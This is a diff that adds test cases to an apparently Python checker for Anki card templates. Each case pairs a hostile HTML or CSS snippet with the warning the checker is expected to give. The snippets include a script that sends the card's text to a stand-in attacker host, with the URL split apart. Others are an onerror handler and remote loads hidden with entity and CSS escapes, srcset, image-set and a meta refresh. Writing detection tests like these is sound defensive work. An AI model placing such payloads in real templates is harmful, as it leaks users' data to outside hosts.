@@ -290,6 +290,40 @@ def _deck_templates(deck: Path) -> tuple[str, str, str]:
             "@import 'https://evil.example/a.css';",
             ":1: a remote address (@import 'https:...)",
         ),
+        # as Chromium reads them, each of these fetched, and a script sent the card away (a
+        # hostile trial); the check read their text as written
+        (
+            "anki/front.html",
+            '{{Question}}\n<script>fetch("ht" + "tps://evil.example/?" + document.body.innerText)'
+            "</script>",
+            ":2: a script (<script...): Anki has no content security policy",
+        ),
+        ("anki/back.html", '{{Hint}}<img src=x onerror="go()">', ":1: a script (onerror=..."),
+        (
+            "anki/front.html",
+            '{{Question}}<img src="&#104;ttps://evil.example/e.png">',
+            ':1: a remote address (src="https:...), as Anki reads it',
+        ),
+        (
+            "anki/front.html",
+            '{{Question}}<img srcset="a.png 1x, https://evil.example/s.png 2x">',
+            ":1: a remote address (https:...), as Anki reads it",
+        ),
+        (
+            "anki/back.html",
+            '{{Hint}}<meta http-equiv="refresh" content="0;url=//evil.example/r">',
+            ":1: a remote address (url=//...), as Anki reads it",
+        ),
+        (
+            "anki/style.css",
+            '.card { background-image: image-set("https://evil.example/i.png" 1x); }',
+            ":1: a remote address (https:...), as Anki reads it",
+        ),
+        (
+            "anki/style.css",
+            ".card { background: url(\\68ttps://evil.example/c.png); }",
+            ":1: a remote address (url(https:...), as Anki reads it",
+        ),
         # a colour's typo (five digits) set the card's accent in Anki's own (a brand trial)
         (
             "anki/style.css",
